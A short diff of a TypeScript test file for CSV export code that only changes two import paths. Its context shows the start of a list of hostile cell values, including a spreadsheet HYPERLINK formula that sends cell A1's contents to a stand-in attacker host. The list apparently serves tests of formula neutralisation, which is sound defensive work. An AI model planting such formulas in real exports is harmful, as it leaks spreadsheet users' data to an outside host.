@@ -2,9 +2,9 @@ import { describe, expect, it } from 'vitest';
 import { csvCell, looksLikeFormula, neutraliseFormula, toCsv } from '../../src/lib/csv-write.ts';
 import { readCsv } from '../../src/lib/csv.ts';
 import { indicatorCsv } from '../../src/indicators/export-csv.ts';
-import { perimeterToCsv } from '../../src/lib/perimeter-io.ts';
+import { perimeterToCsv } from '../../src/perimeter/perimeter-io.ts';
 import { portraitToCsv } from '../../src/portrait/portrait-csv.ts';
-import { buildPortraitModel } from '../../src/lib/portrait-model.ts';
+import { buildPortraitModel } from '../../src/portrait/portrait-model.ts';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
